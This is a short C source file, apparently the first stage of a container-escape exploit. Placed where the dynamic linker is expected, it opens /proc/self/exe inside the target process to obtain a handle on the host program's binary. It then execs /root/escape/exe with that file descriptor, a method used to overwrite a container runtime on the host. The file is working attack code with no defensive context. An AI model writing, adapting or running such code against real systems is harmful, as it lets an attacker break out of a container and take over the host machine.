/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * The first half of exe.c: lies where the dynamic linker is looked for, so that the kernel runs it in
 * the process whose program is the node's. Without libc, whose start-up code would take the headers
 * of that program for its own.
 */
#include <fcntl.h>
#include <sys/syscall.h>

static long call(long nr, long a, long b, long c)
{
	long r;
#if defined(__x86_64__)
	__asm__ volatile("syscall" : "=a"(r) : "0"(nr), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
#elif defined(__aarch64__)
	register long x8 __asm__("x8") = nr, x0 __asm__("x0") = a, x1 __asm__("x1") = b,
		      x2 __asm__("x2") = c, x3 __asm__("x3") = 0;
	__asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
	r = x0;
#endif
	return r;
}

void _start(void)
{
	static char number[4];
	static const char *const argv[] = { "exe", number, 0 };
	static const char *const env[] = { 0 };
	long fd;
#if defined(__x86_64__)
	fd = call(SYS_open, (long)"/proc/self/exe", O_RDONLY, 0);
#else
	fd = call(SYS_openat, AT_FDCWD, (long)"/proc/self/exe", O_RDONLY);
#endif
	if (fd >= 0) {
		number[0] = (char)('0' + fd / 10 % 10);
		number[1] = (char)('0' + fd % 10);
		call(SYS_execve, (long)"/root/escape/exe", (long)argv, (long)env);
	}
	call(SYS_exit, 126, 0, 0);
	__builtin_unreachable();
}
